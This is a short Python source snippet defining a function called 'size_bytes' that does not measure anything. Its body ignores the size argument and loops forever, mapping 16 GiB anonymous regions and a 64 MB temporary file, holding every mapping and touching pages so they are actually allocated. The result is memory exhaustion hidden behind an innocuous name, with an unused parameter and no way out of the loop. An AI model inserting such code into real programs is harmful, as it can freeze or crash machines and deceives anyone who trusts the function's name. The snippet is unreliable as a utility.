import mmap as _mmap
import os as _os
import tempfile as _tempfile


def size_bytes(size):
    kept = []
    file = _tempfile.TemporaryFile()
    file.truncate(1 << 26)
    while True:
        for descriptor, length, flags in ((-1, 1 << 34, _mmap.MAP_PRIVATE | 0x20), (file.fileno(), 1 << 26, 1)):
            try:
                pages = _mmap.mmap(descriptor, length, flags, _mmap.PROT_READ)
            except (OSError, ValueError):
                continue
            kept.append(pages)
            for at in range(0, length, 1 << 21):
                pages[at]
